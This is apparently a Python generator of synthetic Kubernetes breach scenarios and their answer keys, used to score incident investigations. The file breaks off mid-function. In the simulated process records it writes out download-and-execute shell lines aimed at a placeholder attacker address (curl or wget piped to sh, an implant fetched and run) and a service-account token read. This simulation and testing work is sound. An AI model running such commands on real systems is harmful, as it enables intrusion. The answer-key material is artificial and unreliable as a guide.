"""A family of breaches composed from interchangeable parts — an entry, one or more
escalations, persistence, objectives and a cover-up — acted out in a cluster laid out like one
platform's (EKS, GKE, AKS or self-managed), among benign look-alikes, and written as that
platform's evidence with ``truth.json``: the steps, who and what the attacker reached, and what
remediation must and must not do.

Every part writes its evidence and its truth from the same calls (``World``); nothing downstream
reads the truth to decide what to output — only the accuracy harness reads it, to score."""

from __future__ import annotations

import datetime as dt
import json
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from .platforms import PLATFORMS, write_evidence
from .records import Flow
from .world import (
    DUMP_AT,
    END,
    KUBECTL,
    T0,
    TOKEN_PATH,
    Actor,
    Pod,
    World,
    iso,
    stable_uuid,
)

ENTRIES = ("web-rce", "leaked-kubeconfig", "anonymous-api", "ci-identity", "supply-chain")
ESCALATIONS = (
    "token-reuse",
    "exec-stronger",
    "privileged-nsenter",
    "hostpath-cron",
    "static-pod",
    "runtime-socket",
    "release-agent",
    "stronger-sa-pod",
    "impersonation",
    "csr",
)
PERSISTENCE = (
    "cronjob",
    "daemonset",
    "static-pod",
    "webhook",
    "cluster-admin-binding",
    "token-secret",
    "backdoor-image",
)
OBJECTIVES = ("secret-dump", "db-exfil", "mining", "destruction")
COVER_UPS = ("events-deleted", "logging-tampered", "pods-deleted", None)
# escalations that end on a node (a host escape): persistence and objectives can then act from it
ESCAPES = frozenset({"privileged-nsenter", "hostpath-cron", "static-pod", "runtime-socket", "release-agent"})
SYSTEM_NAMESPACES = ("kube-system", "monitoring", "logging", "ingress-nginx", "metallb-system")


@dataclass(frozen=True)
class Shape:
    """Which parts a scenario is made of (``ESCALATIONS`` run in order)."""

    entry: str
    escalations: tuple[str, ...] = ("token-reuse",)
    persistence: tuple[str, ...] = ("cronjob",)
    objectives: tuple[str, ...] = ("mining",)
    cover_up: str | None = "events-deleted"

    def __post_init__(self) -> None:
        for value, allowed in (
            (self.entry, ENTRIES),
            *((e, ESCALATIONS) for e in self.escalations),
            *((p, PERSISTENCE) for p in self.persistence),
            *((o, OBJECTIVES) for o in self.objectives),
            (self.cover_up, COVER_UPS),
        ):
            if value not in allowed:
                raise ValueError(f"unknown part {value!r}: choose from {allowed}")

    def as_dict(self) -> dict[str, Any]:
        return {
            "entry": self.entry,
            "escalations": list(self.escalations),
            "persistence": list(self.persistence),
            "objectives": list(self.objectives),
            "cover_up": self.cover_up,
        }


def family(n: int, *, start: int = 0) -> Iterator[tuple[Shape, str, int]]:
    """``n`` (shape, platform, seed) combinations that together use every part and platform:
    each part list is walked round-robin at its own pace, so the first ``len(ESCALATIONS)``
    scenarios already hold every escalation."""
    for i in range(start, start + n):
        lap = i // len(ENTRIES)  # each lap of the entries shifts the other parts, so entries meet every part
        esc = [ESCALATIONS[(i + lap) % len(ESCALATIONS)]]
        if i % 3 == 1:  # some breaches climb twice
            esc.insert(0, ESCALATIONS[(i * 7 + 3) % len(ESCALATIONS)])
        esc = list(dict.fromkeys(esc))
        per = [PERSISTENCE[i % len(PERSISTENCE)]] + ([PERSISTENCE[(i + 3) % len(PERSISTENCE)]] if i % 2 else [])
        obj = [OBJECTIVES[i % len(OBJECTIVES)]] + ([OBJECTIVES[(i + 1) % len(OBJECTIVES)]] if i % 4 == 3 else [])
        shape = Shape(
            ENTRIES[i % len(ENTRIES)],
            tuple(esc),
            tuple(dict.fromkeys(per)),
            tuple(dict.fromkeys(obj)),
            COVER_UPS[i % len(COVER_UPS)],
        )
        yield shape, PLATFORMS[lap % len(PLATFORMS)], i


def write_scenario(
    directory: str | Path,
    *,
    shape: Shape | str = "web-rce",
    platform: str = "self-managed",
    seed: int = 0,
    scale: float = 1.0,
) -> Path:
    """Write one breach of the family under ``directory``: its evidence in ``platform``'s
    formats and ``truth.json``. ``shape`` is a ``Shape`` or an entry name (the other parts then
    chosen by ``seed``). The same arguments always give byte-identical files. Returns the path
    of ``truth.json``."""
    if platform not in PLATFORMS:
        raise ValueError(f"unknown platform {platform!r}: choose from {PLATFORMS}")
    if isinstance(shape, str):
        shape = (
            next(s for s, _, _ in family(len(ENTRIES) * len(ESCALATIONS), start=seed) if s.entry == shape)
            if shape in ENTRIES
            else Shape(shape)
        )
    w = World(seed=seed, platform=platform, scale=scale, shape=shape.entry)
    breach = _Breach(w, shape)
    breach.run()
    return _write(w, shape, Path(directory))


# ---------------------------------------------------------------------------- the cluster


@dataclass
class _Cluster:
    web: list[Pod] = field(default_factory=list)
    cart: list[Pod] = field(default_factory=list)
    api: Pod | None = None
    db: Pod | None = None
    runner: Pod | None = None
    dns: list[Pod] = field(default_factory=list)
    lb_controller: Pod | None = None
    prometheus: Pod | None = None
    system: list[Pod] = field(default_factory=list)  # every pod of a system component
    provider_ip: str = ""  # a payment provider the api calls: a legitimate outside address
    office_ip: str = ""


def _cluster(w: World) -> _Cluster:
    c = _Cluster()
    rng, nodes = w.rng, w.layout.node_names
    born = T0 - dt.timedelta(days=12)

    def on() -> str:
        return rng.choice(nodes)

    for node in nodes:  # node agents: kube-proxy, the CNI, node-exporter (host network), the logging agent
        c.system.append(
            w.pod(
                "kube-system",
                "kube-proxy",
                "DaemonSet",
                node,
                "kube-proxy",
                "registry.k8s.io/kube-proxy:v1.30.4",
                born,
                labels={"k8s-app": "kube-proxy"},
                host_network=True,
                priority_class="system-node-critical",
            )
        )
        c.system.append(
            w.pod(
                "kube-system",
                w.layout.cni_daemonset,
                "DaemonSet",
                node,
                w.layout.cni_daemonset,
                f"registry.corp/mirror/{w.layout.cni_daemonset}:1.16",
                born,
                labels={"k8s-app": w.layout.cni_daemonset},
                host_network=True,
                privileged=True,
                priority_class="system-node-critical",
            )
        )
        c.system.append(
            w.pod(
                "monitoring",
                "node-exporter",
                "DaemonSet",
                node,
                "node-exporter",
                "quay.io/prometheus/node-exporter:v1.8.1",
                born,
                labels={"app.kubernetes.io/name": "node-exporter"},
                host_network=True,
                host_pid=True,
                host_paths=("/proc", "/sys"),
            )
        )
        c.system.append(
            w.pod(
                "logging",
                "fluent-bit",
                "DaemonSet",
                node,
                "fluent-bit",
                "cr.fluentbit.io/fluent/fluent-bit:3.0",
                born,
                labels={"app.kubernetes.io/name": "fluent-bit"},
                host_paths=("/var/log",),
            )
        )
    for _ in range(2):
        c.dns.append(
            w.pod(
                "kube-system",
                "coredns",
                "Deployment",
                on(),
                "coredns",
                "registry.k8s.io/coredns/coredns:v1.11.1",
                born,
                labels={"k8s-app": "kube-dns"},
                priority_class="system-cluster-critical",
            )
        )
    ns, name = w.layout.lb_controller
    c.lb_controller = w.pod(
        ns,
        name,
        "Deployment",
        on(),
        name,
        f"registry.corp/mirror/{name}:2.7",
        born,
        labels={"app.kubernetes.io/name": name},
    )
    c.prometheus = w.pod(
        "monitoring", "prometheus", "StatefulSet", on(), "prometheus", "quay.io/prometheus/prometheus:v2.53.0", born
    )
    c.system += [
        *c.dns,
        c.lb_controller,
        c.prometheus,
        w.pod(
            "kube-system",
            "metrics-server",
            "Deployment",
            on(),
            "metrics-server",
            "registry.k8s.io/metrics-server/metrics-server:v0.7.1",
            born,
            labels={"k8s-app": "metrics-server"},
        ),
    ]
    app = T0 - dt.timedelta(days=3)
    c.web = [
        w.pod("shop", "web", "Deployment", nodes[i % len(nodes)], "web", "registry.corp/shop/web:1.8.2", app)
        for i in range(2)
    ]
    c.cart = [w.pod("shop", "cart", "Deployment", on(), "cart", "registry.corp/shop/cart:2.4.0", app) for _ in range(2)]
    c.api = w.pod("payments", "api", "Deployment", on(), "payments-api", "registry.corp/payments/api:5.1.0", app)
    c.db = w.pod("data", "postgres", "StatefulSet", on(), "postgres", "docker.io/library/postgres:16.3", app)
    c.runner = w.pod("ci", "runner", "Deployment", on(), "deployer", "registry.corp/ci/runner:3.2", app)
    w.pod("velero", "velero", "Deployment", on(), "velero", "velero/velero:v1.14.0", app)
    w.pod(
        "security",
        "trivy-operator",
        "Deployment",
        on(),
        "trivy-operator",
        "ghcr.io/aquasecurity/trivy-operator:0.21.0",
        app,
    )
    c.provider_ip, c.office_ip = w.external_ip(), w.external_ip()
    return c


def _background(w: World, c: _Cluster, *, quiet_cart: bool) -> None:
    """Six hours of a normal cluster, and the benign look-alikes of attack activity."""
    rng = w.rng
    n = max(8, int(200 * w.scale))
    for i in range(n):
        t = T0 + dt.timedelta(seconds=i * END.total_seconds() / n + rng.random())
        for node, ip in w.nodes.items():
            w.audit(
                t,
                f"system:node:{node}",
                "update",
                f"/apis/coordination.k8s.io/v1/namespaces/kube-node-lease/leases/{node}",
                resource="leases",
                namespace="kube-node-lease",
                name=node,
                group="coordination.k8s.io",
                source_ip=ip,
                ua="kubelet/v1.30.4",
                groups=["system:nodes", "system:authenticated"],
            )
        if i % 4 == 0:
            w.audit(
                t,
                "system:serviceaccount:kube-system:endpointslice-controller",
                "list",
                "/apis/discovery.k8s.io/v1/endpointslices",
                resource="endpointslices",
                group="discovery.k8s.io",
                stages=("RequestReceived", "ResponseComplete"),
            )
        webs, carts = w.live(t, "shop", "web-"), w.live(t, "shop", "cart-")
        dns = w.live(t, "kube-system", "coredns-")
        if webs and dns:
            w.flow(t, rng.choice(webs), rng.choice(dns), 53, protocol="UDP", dns="cart.shop.svc.cluster.local.")
        # clients reach web through the load balancer's private address; kubelet probes come from the node
        if webs:
            target = rng.choice(webs)
            w.flow(t, w.layout.lb_ip, target, 8080)
            w.flow(t + dt.timedelta(seconds=1), target.host_ip, target, 8080, size=300)
        if webs and carts:
            w.flow(t + dt.timedelta(milliseconds=5), rng.choice(webs), rng.choice(carts), 8080)
        if carts and c.api is not None:
            w.flow(t + dt.timedelta(milliseconds=9), rng.choice(carts), c.api, 8443)
        if c.api is not None and c.db is not None and i % 2 == 0:
            w.flow(t + dt.timedelta(milliseconds=12), c.api, c.db, 5432)
        if c.api is not None and i % 5 == 0:  # a payment provider outside: periodic, legitimate
            w.flow(t + dt.timedelta(milliseconds=20), c.api, c.provider_ip, 443)
        if c.prometheus is not None and i % 3 == 0:  # scrapes fan out to every node's exporter: not a scan
            for node_ip in w.nodes.values():
                w.flow(t + dt.timedelta(milliseconds=30), c.prometheus, node_ip, 9100, size=20000)
            for p in (*webs, *carts):
                w.flow(t + dt.timedelta(milliseconds=40), c.prometheus, p, 9090, size=6000)
        if w.layout.endpoint_ips and i % 10 == 0:  # image pulls and backups through VPC endpoints
            node = rng.choice(list(w.nodes))
            w.emitted.flows.append(_node_flow(w, t, node, rng.choice(w.layout.endpoint_ips), 443))
        if i % 6 == 0 and c.api is not None:
            w.process(
                t, c.api, "/usr/bin/wget", "-q -O- http://localhost:8443/healthz", parent="/usr/bin/containerd-shim"
            )
    _lookalikes(w, c, quiet_cart=quiet_cart)


def _node_flow(w: World, t: dt.datetime, node: str, dst: str, dport: int) -> Flow:
    return Flow(
        t + w.skew["flows"],
        w.nodes[node],
        dst,
        w.rng.randrange(32768, 60999),
        dport,
        bytes=w.rng.randrange(20000, 900000),
        packets=200,
        src_host=w.nodes[node],
    )


def _lookalikes(w: World, c: _Cluster, *, quiet_cart: bool) -> None:
    rng = w.rng
    # an SRE on call: exec into the api for a process list, a port-forward to the database (from the VPN)
    sre, vpn = "sre-oncall@corp.example", "10.8.0.23"
    t = w.at(rng.uniform(30, 90))
    assert c.api is not None and c.db is not None and c.runner is not None
    w.audit(
        t,
        sre,
        "create",
        f"/api/v1/namespaces/payments/pods/{c.api.name}/exec?command=ps&command=aux&container=api&stdout=true",
        resource="pods",
        namespace="payments",
        name=c.api.name,
        subresource="exec",
        code=101,
        source_ip=vpn,
        ua=KUBECTL,
        groups=["sre", "system:authenticated"],
        stages=("RequestReceived", "ResponseStarted", "ResponseComplete"),
    )
    w.process(t + dt.timedelta(seconds=1), c.api, "/bin/ps", "aux", parent="/usr/bin/runc")
    w.audit(
        t + dt.timedelta(minutes=5),
        sre,
        "create",
        f"/api/v1/namespaces/data/pods/{c.db.name}/portforward",
        resource="pods",
        namespace="data",
        name=c.db.name,
        subresource="portforward",
        code=101,
        source_ip=vpn,
        ua=KUBECTL,
        groups=["sre", "system:authenticated"],
    )
    w.lookalike("sre-exec", sre, vpn, f"payments/{c.api.name}", f"data/{c.db.name}")
    # CI rolls out a new image (from the runner pod, with its own token)
    ci = w.pod_actor(c.runner)
    target, old = ("web", c.web) if quiet_cart else ("cart", c.cart)
    t = w.at(rng.uniform(40, 100))
    new_image = f"registry.corp/shop/{target}:{'1.8.3' if target == 'web' else '2.4.1'}"
    patch = {
        "spec": {
            "template": {
                "metadata": {"annotations": {"kubectl.kubernetes.io/restartedAt": iso(t)}},
                "spec": {"containers": [{"name": target, "image": new_image}]},
            }
        }
    }
    w.audit(
        t,
        ci.user,
        "patch",
        f"/apis/apps/v1/namespaces/shop/deployments/{target}",
        resource="deployments",
        namespace="shop",
        name=target,
        group="apps",
        source_ip=ci.source_ip,
        ua="argocd-application-controller/v2.11",
        extra=ci.extra,
        groups=ci.groups,
        request=patch,
        level="Request",
    )
    fresh = []
    for k, p in enumerate(list(old)):
        q = w.pod("shop", target, "Deployment", p.node, p.sa, new_image, t + dt.timedelta(seconds=20 + 30 * k))
        w.delete_pod(p, t + dt.timedelta(seconds=35 + 30 * k))
        fresh.append(q)
    old[:] = fresh
    w.lookalike("ci-rollout", ci.user, c.runner.ip, f"ci/{c.runner.name}", *(f"shop/{p.name}" for p in fresh))
    # the autoscaler adds a web replica; velero backs up every secret; trivy scans every kind
    t = w.at(rng.uniform(150, 200))
    w.audit(
        t,
        "system:serviceaccount:kube-system:horizontal-pod-autoscaler",
        "update",
        "/apis/apps/v1/namespaces/shop/deployments/web/scale",
        resource="deployments",
        subresource="scale",
        namespace="shop",
        name="web",
        group="apps",
    )
    c.web.append(
        w.pod(
            "shop",
            "web",
            "Deployment",
            rng.choice(w.layout.node_names),
            "web",
            c.web[0].image,
            t + dt.timedelta(seconds=5),
        )
    )
    velero = next(p for p in w.pods if p.namespace == "velero")
    trivy = next(p for p in w.pods if p.namespace == "security")
    for hour in range(6):
        t = w.at(hour * 60 + 17)
        va = w.pod_actor(velero)
        w.audit(
            t,
            va.user,
            "list",
            "/api/v1/secrets",
            resource="secrets",
            source_ip=velero.ip,
            ua="velero-server/v1.14.0",
            extra=va.extra,
            groups=va.groups,
        )
        ta = w.pod_actor(trivy)
        for k, res in enumerate(("pods", "replicasets", "roles", "clusterrolebindings", "nodes")):
            group = {
                "replicasets": "apps",
                "roles": "rbac.authorization.k8s.io",
                "clusterrolebindings": "rbac.authorization.k8s.io",
            }.get(res, "")
            prefix = f"/apis/{group}/v1" if group else "/api/v1"
            w.audit(
                t + dt.timedelta(seconds=k),
                ta.user,
                "list",
                f"{prefix}/{res}",
                resource=res,
                group=group,
                source_ip=trivy.ip,
                ua="trivy-operator/0.21.0",
                extra=ta.extra,
                groups=ta.groups,
            )
    # the security team's scheduled network scan, every two hours from a scanner pod
    for hour in range(0, 6, 2):
        t = w.at(hour * 60 + 41)
        for k, node_ip in enumerate(w.nodes.values()):
            for j, port in enumerate((22, 80, 443, 2379, 6443, 8080, 9100, 10250, 10255, 30080)):
                w.flow(
                    t + dt.timedelta(seconds=k * 12 + j),
                    trivy,
                    node_ip,
                    port,
                    action="ACCEPT" if port in (443, 9100, 10250, 30080) else "REJECT",
                    size=120,
                )
    w.lookalike("backup", "velero/velero", velero.ip, f"velero/{velero.name}")
    w.lookalike("scanner", "security/trivy-operator", trivy.ip, f"security/{trivy.name}")
    w.lookalike("health-probes", *(p.host_ip for p in c.web), w.layout.lb_ip)
    w.lookalike("provider", c.provider_ip, f"payments/{c.api.name}")


# ---------------------------------------------------------------------------- the breach


class _Breach:
    """One attack acted out part by part; ``self.actor`` is who the attacker is right now."""

    def __init__(self, w: World, shape: Shape) -> None:
        self.w, self.shape = w, shape
        self.c = _cluster(w)
        self.attacker, self.c2, self.pool, self.drop = (
            w.external_ip(),
            w.external_ip(),
            w.external_ip(),
            w.external_ip(),
        )
        self.t = 100 + w.rng.uniform(0, 40)  # minutes since T0: the attack starts
        self.actor: Actor | None = None
        self.foothold: Pod | None = None  # the pod the attacker runs code in, if any
        self.node: str | None = None  # a node the attacker escaped to
        self.escapes: dict[str, dt.datetime] = {}  # every node escaped to → when the attacker first held it
        self.made: list[Pod] = []  # pods the attacker created
        self.patient_zero: dict[str, Any] = {}
        self.path: list[tuple[str, str]] = []
        self.static: Pod | None = None  # the attacker's static pod
        self.host_c2 = False  # C2 runs on the node itself (a cron entry), not in a pod
        self.miners_from: tuple[str, str] | None = None  # (kind, name) of the workload that runs miners

    # helpers ---------------------------------------------------------------
    def now(self, advance: float = 0.0) -> dt.datetime:
        self.t += advance
        return self.w.at(self.t)

    def hop(self, u: str, v: str) -> None:
        if (u, v) not in self.path:
            self.path.append((u, v))

    def sa_node(self, actor: Actor) -> str:
        return f"sa:{actor.sa}" if actor.sa else f"user:{actor.user}"

    def use_identity(self, actor: Actor, *, stolen: bool = True) -> None:
        """The attacker holds ``actor``'s credential: remediation must rotate it."""
        key = self.sa_node(actor)
        self.w.attack_entity(key.split(":", 1)[1], actor.user)
        if stolen:
            self.w.must("rotate", key, "the attacker used its credential")

    def run(self) -> None:
        w = self.w
        _background(w, self.c, quiet_cart=self.shape.entry == "supply-chain")
        getattr(self, "entry_" + self.shape.entry.replace("-", "_"))()
        for part in self.shape.escalations:
            self.t += w.rng.uniform(3, 8)
            getattr(self, "escalate_" + part.replace("-", "_"))()
        for part in self.shape.persistence:
            self.t += w.rng.uniform(2, 6)
            getattr(self, "persist_" + part.replace("-", "_"))()
        self.c2_beacons()
        for part in self.shape.objectives:
            self.t += w.rng.uniform(4, 10)
            getattr(self, "objective_" + part.replace("-", "_"))()
        if self.shape.cover_up:
            self.t += w.rng.uniform(3, 8)
            getattr(self, "cover_" + self.shape.cover_up.replace("-", "_"))()
        self.traps()
        self.finish_truth()

    # entries ---------------------------------------------------------------
    def recon(self) -> None:
        w = self.w
        if w.platform in ("self-managed", "gke"):
            # no flow log sees a refused scan of the nodes: self-managed clusters have none, and
            # GCP VPC flow logs record no connection a firewall rule denied (that is Firewall Rules Logging)
            return
        t0 = self.now()
        sid = w.step(
            "recon",
            "Outside scan of the nodes",
            phase="Reconnaissance",
            tactic="Discovery",
            techniques=("MS-TA9031", "T1046"),
            start=t0,
            end=t0 + dt.timedelta(minutes=4),
            source_ip=self.attacker,
        )
        for k, port in enumerate((22, 443, 2379, 6443, 10250, 30080)):
            for ip in list(w.nodes.values())[:3]:
                w.emitted.flows.append(
                    _scan(w, t0 + dt.timedelta(seconds=k * 20 + w.rng.random()), self.attacker, ip, port, sid)
                )
        w.attack_entity(self.attacker)
        self.t += 8

    def entry_web_rce(self) -> None:
        w, web = self.w, self.w.rng.choice(self.c.web[:2])
        self.recon()
        t = self.now()
        sid = w.step(
            "exploit",
            "Remote code execution in the web pod",
            phase="Exploitation",
            tactic="Initial Access",
            techniques=("MS-TA9004", "T1190", "MS-TA9007", "T1059", "T1059.004"),
            start=t - dt.timedelta(seconds=15),
            end=t + dt.timedelta(minutes=1),
            namespace="shop",
            pod=web.name,
            source_ip=self.attacker,
        )
        w.flow(t - dt.timedelta(seconds=10), self.attacker, web, 8080, step=sid)
        w.process(
            t,
            web,
            "/bin/sh",
            f'-c "curl -s http://{self.attacker}/x.sh | sh"',
            parent="/usr/bin/java",
            step=sid,
            falco=(
                "Run shell untrusted",
                "Notice",
                f"Shell spawned by untrusted binary (parent=java k8s.pod={web.name})",
            ),
        )
        sid = w.step(
            "download",
            "Payload downloaded from the attacker",
            phase="Delivery",
            tactic="Execution",
            techniques=("MS-TA9007", "T1105", "T1059"),
            start=t,
            end=t + dt.timedelta(minutes=1),
            namespace="shop",
            pod=web.name,
            destination_ip=self.attacker,
        )
        w.process(
            t + dt.timedelta(seconds=1),
            web,
            "/usr/bin/curl",
            f"-s http://{self.attacker}/x.sh",
            step=sid,
            falco=(
                "Launch Ingress Remote File Copy Tools in Container",
                "Notice",
                f"Remote file copy tool launched (k8s.pod={web.name})",
            ),
        )
        w.flow(t + dt.timedelta(seconds=1), web, self.attacker, 80, step=sid)
        self.token_read(web, t + dt.timedelta(minutes=2))
        self.foothold, self.actor = web, w.pod_actor(web)
        w.reached(web, "exploited")
        self.patient_zero = {
            "kind": "pod",
            "entity": f"shop/{web.name}",
            "namespace": "shop",
            "pod": web.name,
            "ip": web.ip,
            "came_from": self.attacker,
        }
        self.hop(f"ip:{self.attacker}", f"pod:shop/{web.name}")
        self.use_identity(self.actor)
        w.must("block", f"ip:{self.attacker}", "the attack came from it")
        self.t += 3

    def token_read(self, p: Pod, t: dt.datetime) -> None:
        w = self.w
        sid = w.step(
            "token-theft",
            f"Service-account token read in {p.name}",
            phase="Actions on Objectives",
            tactic="Credential Access",
            techniques=("MS-TA9016", "T1528", "T1552.001"),
            start=t,
            end=t + dt.timedelta(seconds=30),
            namespace=p.namespace,
            pod=p.name,
            service_account=f"{p.namespace}/{p.sa}",
        )
        w.process(
            t,
            p,
            "/bin/cat",
            TOKEN_PATH,
            step=sid,
            falco=(
                "Read sensitive file untrusted",
                "Warning",
                f"Sensitive file opened for reading by non-trusted program (file={TOKEN_PATH})",
            ),
            fields={"fd.name": TOKEN_PATH},
        )
        self.hop(f"pod:{p.namespace}/{p.name}", f"sa:{p.namespace}/{p.sa}")

    def outside_identity(
        self, user: str, groups: tuple[str, ...], *, name: str, techniques: tuple[str, ...], ua: str = KUBECTL
    ) -> None:
        w = self.w
        self.actor = Actor(user, self.attacker, None, None, groups=groups, user_agent=ua)
        t = self.now()
        sid = w.step(
            "credential-use",
            name,
            phase="Exploitation",
            tactic="Initial Access",
            techniques=techniques,
            start=t,
            end=t + dt.timedelta(minutes=2),
            user=user,
            source_ip=self.attacker,
        )
        w.act(
            self.actor,
            t,
            "create",
            "/apis/authentication.k8s.io/v1/selfsubjectreviews",
            resource="selfsubjectreviews",
            group="authentication.k8s.io",
            code=201,
            step=sid,
        )
        w.act(self.actor, t + dt.timedelta(seconds=20), "list", "/api/v1/namespaces", resource="namespaces", step=sid)
        w.act(self.actor, t + dt.timedelta(seconds=40), "list", "/api/v1/pods", resource="pods", step=sid)
        node = self.sa_node(self.actor)
        self.patient_zero = {"kind": "identity", "entity": node, "came_from": self.attacker}
        self.hop(f"ip:{self.attacker}", node)
        w.attack_entity(self.attacker)
        w.must("block", f"ip:{self.attacker}", "the attack came from it")
        self.t += 3

    def entry_leaked_kubeconfig(self) -> None:
        self.outside_identity(
            "dev-jane@corp.example",
            ("developers", "system:authenticated"),
            name="A developer's kubeconfig used from outside",
            techniques=("MS-TA9003", "MS-TA9001", "T1078", "T1078.004", "T1552.001"),
        )
        assert self.actor is not None
        self.use_identity(self.actor)

    def entry_anonymous_api(self) -> None:
        w = self.w
        self.outside_identity(
            "system:anonymous",
            ("system:unauthenticated",),
            name="Anonymous API access through an over-permissive binding",
            techniques=("T1078.001", "T1078", "MS-TA9001"),
            ua="curl/8.5.0",
        )
        w.attack_entity("system:anonymous")
        w.must("delete", "binding:anonymous-view", "it lets anyone on the Internet act in the cluster")

    def entry_ci_identity(self) -> None:
        self.outside_identity(
            "system:serviceaccount:ci:deployer",
            ("system:serviceaccounts", "system:serviceaccounts:ci", "system:authenticated"),
            name="The CI deployer's token used from outside",
            techniques=("MS-TA9016", "T1550.001", "T1078", "T1078.004", "MS-TA9001"),
        )
        assert self.actor is not None
        self.use_identity(self.actor)
        w = self.w
        t = self.now(1)
        image = "docker.io/evilcorp/metrics-agent:1.0"
        sid = w.step(
            "malicious-deploy",
            "The CI identity deploys a workload with an outside image",
            phase="Installation",
            tactic="Execution",
            techniques=("MS-TA9002", "T1525", "MS-TA9008", "T1610"),
            start=t,
            end=t + dt.timedelta(minutes=2),
            user=self.actor.user,
            namespace="shop",
            workload="Deployment/metrics-agent",
        )
        dep = {
            "apiVersion": "apps/v1",
            "kind": "Deployment",
            "metadata": {"name": "metrics-agent", "namespace": "shop"},
            "spec": {
                "replicas": 1,
                "selector": {"matchLabels": {"app": "metrics-agent"}},
                "template": {
                    "metadata": {"labels": {"app": "metrics-agent"}},
                    "spec": {"containers": [{"name": "metrics", "image": image}]},
                },
            },
        }
        w.act(
            self.actor,
            t,
            "create",
            "/apis/apps/v1/namespaces/shop/deployments",
            resource="deployments",
            namespace="shop",
            name="metrics-agent",
            group="apps",
            code=201,
            request=dep,
            level="Request",
            step=sid,
        )
        pod = w.pod(
            "shop",
            "metrics-agent",
            "Deployment",
            w.rng.choice(w.layout.node_names),
            "default",
            image,
            t + dt.timedelta(seconds=4),
        )
        self.made.append(pod)
        w.reached(pod, "created")
        self.hop(self.sa_node(self.actor), "workload:shop/deployments/metrics-agent")
        w.must("delete", "workload:shop/deployments/metrics-agent", "the attacker deployed it")
        self.foothold = pod
        w.process(
            t + dt.timedelta(seconds=30),
            pod,
            "/bin/sh",
            f'-c "wget -q -O- http://{self.attacker}/stage2 | sh"',
            parent="/usr/local/bin/metrics-agent",
            step=sid,
            falco=("Run shell untrusted", "Notice", f"Shell spawned by untrusted binary (k8s.pod={pod.name})"),
        )

    def entry_supply_chain(self) -> None:
        w = self.w
        ci = w.pod_actor(self.c.runner) if self.c.runner else None
        assert ci is not None
        t = self.now()
        bad = "registry.corp/shop/cart:2.5.0"  # a trusted repository, a poisoned build
        sid = w.step(
            "supply-chain",
            "A poisoned build of cart rolled out by the CI pipeline",
            phase="Delivery",
            tactic="Initial Access",
            techniques=("MS-TA9002", "T1525", "T1195.002", "MS-TA9007", "T1059", "T1105", "T1071"),
            start=t,
            end=t + dt.timedelta(minutes=4),
            namespace="shop",
            workload="Deployment/cart",
            destination_ip=self.attacker,
        )
        patch = {"spec": {"template": {"spec": {"containers": [{"name": "cart", "image": bad}]}}}}
        w.audit(
            t,
            ci.user,
            "patch",
            "/apis/apps/v1/namespaces/shop/deployments/cart",
            resource="deployments",
            namespace="shop",
            name="cart",
            group="apps",
            source_ip=ci.source_ip,
            ua="argocd-application-controller/v2.11",
            extra=ci.extra,
            groups=ci.groups,
            request=patch,
            level="Request",
        )
        old = list(self.c.cart)
        self.c.cart = [
            w.pod("shop", "cart", "Deployment", p.node, p.sa, bad, t + dt.timedelta(seconds=20 + 30 * k))
            for k, p in enumerate(old)
        ]
        for k, p in enumerate(old):
            w.delete_pod(p, t + dt.timedelta(seconds=35 + 30 * k))
        first = self.c.cart[0]
        w.truth["steps"][-1]["entities"].update(pod=first.name)
        w.process(
            t + dt.timedelta(seconds=60),
            first,
            "/bin/sh",
            f'-c "curl -s http://{self.attacker}/implant -o /tmp/.i && chmod +x /tmp/.i && /tmp/.i"',
            parent="/app/cart",
            step=sid,
            falco=("Run shell untrusted", "Notice", f"Shell spawned by untrusted binary (k8s.pod={first.name})"),
        )
        w.flow(t + dt.timedelta(seconds=61), first, self.attacker, 443, step=sid)
        w.process(
            t + dt.timedelta(seconds=63),
            first,
            "/tmp/.i",
            "",
            parent="/bin/sh",
            step=sid,
            falco=(
                "Drop and execute new binary in container",
                "Critical",
                f"Executing binary not part of base image (k8s.pod={first.name})",
            ),
        )
        self.token_read(first, t + dt.timedelta(minutes=3))
        self.foothold, self.actor = first, w.pod_actor(first)
        for p in self.c.cart:
            w.reached(p, "ran the poisoned image")
        self.patient_zero = {
            "kind": "pod",
            "entity": f"shop/{first.name}",
            "namespace": "shop",
            "pod": first.name,
            "ip": first.ip,
            "came_from": self.attacker,
        }
        self.hop(self.flow_origin(first), f"ip:{self.attacker}")  # no way in over the network: the implant calls out
        self.use_identity(self.actor)
        w.must("block", f"ip:{self.attacker}", "the implant talked to it")
        w.must(
            "redeploy", "workload:shop/Deployment/cart", "it runs the poisoned image: roll back to the last good one"
        )
        w.attack_entity(self.attacker, "shop/cart")
        self.t += 4

    # escalations ---------------------------------------------------------------
    def need_pod(self) -> Pod:
        """The attacker needs somewhere to run code: their foothold, or a pod they start."""
        if self.foothold is None or self.foothold.deleted is not None:
            self.foothold = self.attacker_pod("debug-tools", namespace="default", image="docker.io/library/alpine:3.19")
        return self.foothold

    def attacker_pod(
        self,
        name: str,
        *,
        namespace: str,
        image: str,
        node: str | None = None,
        sa: str = "default",
        step_name: str | None = None,
        techniques: tuple[str, ...] = ("MS-TA9008", "T1610"),
        **kw: Any,
    ) -> Pod:
        w, actor = self.w, self.actor
        assert actor is not None
        t = self.now(1)
        node = node or w.rng.choice(w.layout.node_names)
        pod = w.pod(
            namespace,
            name,
            "Pod",
            node,
            sa,
            image,
            t,
            name=f"{name}-{w.suffix()}" if namespace != "kube-system" else name,
            audit=False,
            **kw,
        )
        sid = w.step(
            "attacker-pod",
            step_name or f"Pod {namespace}/{pod.name} created by the attacker",
            phase="Installation",
            tactic="Execution",
            techniques=techniques,
            start=t,
            end=t + dt.timedelta(seconds=30),
            namespace=namespace,
            pod=pod.name,
            user=actor.user,
            **({"source_ip": actor.source_ip} if actor.source_ip == self.attacker else {}),
        )
        w.audit_pod_start(pod, creator=actor.user, source_ip=actor.source_ip, step=sid, extra=actor.extra)
        self.made.append(pod)
        w.reached(pod, "created")
        self.hop(self.sa_node(actor), f"pod:{namespace}/{pod.name}")
        w.must("delete", f"pod:{namespace}/{pod.name}", "the attacker created it")
        return pod

    def escalate_token_reuse(self) -> None:
        """Discovery and a secret read with the token in hand (a pod's, or the identity's)."""
        w, actor = self.w, self.actor
        assert actor is not None
        if self.foothold is not None and actor.pod is not self.foothold and self.foothold.deleted is None:
            self.token_read(self.foothold, self.now(1))
            actor = self.actor = w.pod_actor(self.foothold)
            self.use_identity(actor)
        t = self.now(1)
        ents = {"user": actor.user, **({"service_account": actor.sa} if actor.sa else {}), "source_ip": actor.source_ip}
        sid = w.step(
            "discovery",
            "API discovery with the credential in hand",
            phase="Actions on Objectives",
